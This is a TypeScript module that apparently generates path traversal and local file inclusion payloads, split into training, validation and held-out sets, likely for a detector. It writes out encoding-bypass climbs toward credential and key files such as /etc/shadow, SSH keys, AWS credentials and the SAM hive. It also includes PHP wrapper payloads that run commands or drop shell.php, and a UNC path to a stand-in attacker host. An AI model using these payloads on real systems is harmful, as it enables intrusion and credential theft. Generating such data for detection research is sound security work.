/**
 * Path traversal and local file inclusion payloads from a grammar written for Helios: climbs
 * (../ in every spelling: backslashes, percent-encodings once, twice or three times, overlong UTF-8,
 * filter-bypass forms), a sensitive target file, an optional prefix the application expected and
 * suffix (null byte, extension); absolute paths, UNC paths, file:// and PHP or other stream
 * wrappers. Held-out branches are climb spellings and targets kept for validation and test.
 */
import type { Branches, Chooser } from "./grammar";

const CLIMBS: Branches<string> = {
  train: [
    "../",
    "..\\",
    "%2e%2e%2f",
    "%2e%2e/",
    "..%2f",
    "%2e%2e%5c",
    "..%5c",
    "%252e%252e%252f",
    "..%252f",
    "....//",
    "..././",
    "..;/",
    "%2E%2E%2F",
    "..%c0%af",
    ".%2e/",
    "%2e./",
    "..%255c",
    "..\\/",
    "....\\\\",
    "%c0%2e%c0%2e/",
    "%c0%ae%c0%ae/",
    "%e0%80%ae%e0%80%ae/",
    "%25c0%25ae%25c0%25ae/",
    "..%c0%2f",
    "%2e%2e%c0%af",
    "..//",
    ".../",
    "..\\\\\\\\",
    "%252e%252e/",
    ".%252e/",
    "..%5c..%5c",
    "%2e%2e\\\\",
    "..0x2f",
    "..%25%35%63",
  ],
  valid: ["..%c0%5c", "%u002e%u002e/", "..%e0%80%af", "%25%32%65%25%32%65%25%32%66"],
  held: ["..%c1%9c", "%uff0e%uff0e/", "..%u2215", "%%32%65%%32%65/", "0x2e0x2e/"],
};

/** One dot, in the spellings a decoder (or two, or three) turns back into ".". */
const DOTS: Branches<string> = {
  train: [".", ".", ".", "%2e", "%2E", "%252e", "%25252e", "%c0%ae", "%e0%80%ae", "%f0%80%80%ae", "%c0%2e"],
  valid: ["%C0%AE", "%2525252e"],
  held: [],
};
/** One separator, in the spellings a decoder turns back into / or \. */
const SEPARATORS: Branches<string> = {
  train: [
    "/",
    "/",
    "/",
    "\\",
    "\\",
    "%2f",
    "%2F",
    "%5c",
    "%5C",
    "%252f",
    "%255c",
    "%25252f",
    "%c0%af",
    "%e0%80%af",
    "%f0%80%80%af",
    "\\\\",
    "//",
    "/./",
  ],
  valid: ["%C0%AF", "%25255c", "\\.\\"],
  held: [],
};

const UNIX_TARGETS: Branches<string> = {
  train: [
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "proc/self/environ",
    "proc/self/cmdline",
    "proc/self/fd/0",
    "proc/self/status",
    "var/log/apache2/access.log",
    "var/log/apache/error.log",
    "var/log/httpd/access_log",
    "var/log/nginx/error.log",
    "var/log/auth.log",
    "root/.ssh/id_rsa",
    "root/.bash_history",
    "home/user/.bash_history",
    "home/ubuntu/.ssh/authorized_keys",
    "etc/issue",
    "etc/hostname",
    "etc/crontab",
    "etc/fstab",
    "etc/ssh/sshd_config",
    "usr/local/apache/conf/httpd.conf",
    "etc/apache2/apache2.conf",
    "etc/httpd/conf/httpd.conf",
    "var/www/html/config.php",
    "var/www/html/wp-config.php",
    "etc/mysql/my.cnf",
    "etc/php.ini",
    "etc/php/7.4/apache2/php.ini",
    ".env",
    ".git/config",
    ".git/HEAD",
    ".htaccess",
    ".htpasswd",
    "WEB-INF/web.xml",
    "WEB-INF/classes/application.properties",
    "etc/nginx/nginx.conf",
    "etc/nginx/sites-enabled/default",
    "app/config/parameters.yml",
    "config/database.yml",
    "proc/1/environ",
    "var/lib/mlocate/mlocate.db",
    "etc/security/passwd",
    "etc/master.passwd",
  ],
  valid: ["etc/motd", "proc/self/maps", "home/user/.aws/credentials", "etc/redis/redis.conf"],
  held: [
    "etc/sudoers",
    "proc/version",
    "var/run/secrets/kubernetes.io/serviceaccount/token",
    "opt/tomcat/conf/tomcat-users.xml",
  ],
};
const WINDOWS_TARGETS: Branches<string> = {
  train: [
    "windows/win.ini",
    "boot.ini",
    "windows/system32/drivers/etc/hosts",
    "winnt/win.ini",
    "windows/system.ini",
    "inetpub/wwwroot/web.config",
    "windows/repair/sam",
    "windows/system32/config/sam",
    "windows/system32/config/system",
    "windows/iis6.log",
    "windows/system32/inetsrv/config/applicationhost.config",
    "inetpub/logs/logfiles/w3svc1/u_ex220101.log",
    "users/administrator/ntuser.dat",
    "windows/php.ini",
    "xampp/apache/conf/httpd.conf",
    "program files/mysql/my.ini",
  ],
  valid: ["windows/system32/license.rtf", "windows/windowsupdate.log"],
  held: ["windows/debug/netsetup.log", "windows/panther/unattend.xml"],
};
const PREFIXES = [
  "",
  "",
  "",
  "/",
  "images/",
  "file=",
  "static/",
  "/var/www/",
  "download?file=",
  "uploads/",
  "c:/",
  "./",
  "a/",
  "lang=",
  "page=",
  "template=",
  "/static/../",
  "include=",
  "path=",
  "/cgi-bin/",
  "doc=",
  "img/",
  "/assets/",
  "?f=",
  "index.php?page=",
];
const SUFFIXES: Branches<string> = {
  train: [
    "",
    "",
    "",
    "",
    "%00",
    "%00.jpg",
    "\u0000",
    ".png",
    "%00.html",
    "?",
    "#",
    "%00.php",
    ".jpg",
    "%0a",
    "/.",
  ],
  valid: ["%20", "::$DATA"],
  held: ["%2500", ";.txt"],
};

function target(c: Chooser): string {
  return c.chance(0.7) ? c.branch(UNIX_TARGETS) : c.branch(WINDOWS_TARGETS);
}

/** A climb composed from one spelling of the dot and one of the separator (the same for every step). */
function composedClimb(c: Chooser): { climb: string; separator: string } {
  const dot = c.branch(DOTS);
  const separator = c.branch(SEPARATORS);
  const dots = c.chance(0.8) ? `${dot}${dot}` : `${dot}${c.pick([".", dot])}`;
  return { climb: `${dots}${separator}`, separator };
}

/** The families of the grammar. */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  climb: (c) => {
    const climb = c.branch(CLIMBS);
    const goal = target(c);
    const slash =
      climb.includes("\\") || climb.includes("5c") ? goal.replaceAll("/", c.pick(["\\", "/"])) : goal;
    return `${c.pick(PREFIXES)}${climb.repeat(c.int(1, 12))}${slash}${c.branch(SUFFIXES)}`;
  },
  composedClimb: (c) => {
    const { climb, separator } = composedClimb(c);
    const goal = target(c);
    const path = c.chance(0.6) ? goal.replaceAll("/", separator) : goal;
    return `${c.pick(PREFIXES)}${climb.repeat(c.int(1, 10))}${path}${c.branch(SUFFIXES)}`;
  },
  mixedClimb: (c) => {
    const steps = Array.from({ length: c.int(2, 10) }, () => c.branch(CLIMBS)).join("");
    return `${c.pick(PREFIXES)}${steps}${c.branch(UNIX_TARGETS)}${c.branch(SUFFIXES)}`;
  },
  nestedClimb: (c) =>
    // Filters that strip "../" once leave a climb behind: ....// becomes ../
    `${c.pick(PREFIXES)}${c.pick(["....//", "...//", "..././", "....\\\\", ".../.../", "..../", "....\\/"]).repeat(c.int(2, 8))}${target(c)}`,
  absolute: (c) =>
    c.pick([
      `/${c.branch(UNIX_TARGETS)}`,
      `file:///${c.branch(UNIX_TARGETS)}`,
      `file://localhost/${c.branch(UNIX_TARGETS)}`,
      `file:/${c.branch(UNIX_TARGETS)}`,
      `file:///c:/${c.branch(WINDOWS_TARGETS)}`,
      `c:\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `C:/${c.branch(WINDOWS_TARGETS)}`,
      `d:\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `\\\\localhost\\c$\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `\\\\127.0.0.1\\c$\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `\\\\?\\c:\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `//${c.pick(["10.0.0.1", "evil.example", "localhost"])}/${c.pick(["share", "c$", "admin$"])}/${c.branch(WINDOWS_TARGETS)}`,
      `%2f${c.branch(UNIX_TARGETS).replaceAll("/", "%2f")}`,
      `%252f${c.branch(UNIX_TARGETS).replaceAll("/", "%252f")}`,
      `/${c.branch(UNIX_TARGETS)}%00`,
      `${c.pick(["/var/www/html/", "/usr/share/", "/srv/app/"])}../../../${c.branch(UNIX_TARGETS)}`,
    ]),
  wrapper: (c) =>
    c.pick([
      `php://filter/convert.base64-encode/resource=${c.pick(["index.php", "config.php", "../config.php", "/etc/passwd", "wp-config.php"])}`,
      `php://filter/read=string.rot13/resource=${c.pick(["index.php", "db.php"])}`,
      `php://filter/${c.pick(["string.toupper", "convert.iconv.utf-8.utf-16", "zlib.deflate"])}/resource=${c.pick(["index.php", "/etc/passwd"])}`,
      `pHp://FilTer/convert.base64-encode/resource=${c.pick(["index.php", "config.php"])}`,
      "php://input",
      `php://fd/${c.int(0, 9)}`,
      `expect://${c.pick(["id", "ls", "whoami"])}`,
      `zip://uploads/${c.pick(["a", "x"])}.zip#shell.php`,
      `zip://${c.pick(["/tmp/", "uploads/"])}${c.pick(["a", "x"])}.zip%23${c.pick(["shell", "x"])}.php`,
      `phar://uploads/${c.pick(["a", "x"])}.jpg/shell.php`,
      `data://text/plain;base64,${c.pick(["PD9waHAgc3lzdGVtKCdpZCcpOz8+", "SGVsbG8="])}`,
      `data:text/plain,<?php ${c.pick(["phpinfo()", "system('id')"])};?>`,
      `jar:file:///${c.branch(UNIX_TARGETS)}!/`,
      `compress.zlib://${c.pick(["/etc/passwd", "file:///etc/passwd"])}`,
      `glob://${c.pick(["/var/www/*", "*.php"])}`,
      `netdoc:///${c.branch(UNIX_TARGETS)}`,
    ]),
};

/** The path traversal families, by name. */
export const TRAVERSAL_FAMILIES = Object.keys(FAMILIES);

/** One path traversal payload of the given family. */
export function traversalPayload(c: Chooser, family: string): string {
  return FAMILIES[family]!(c);
}
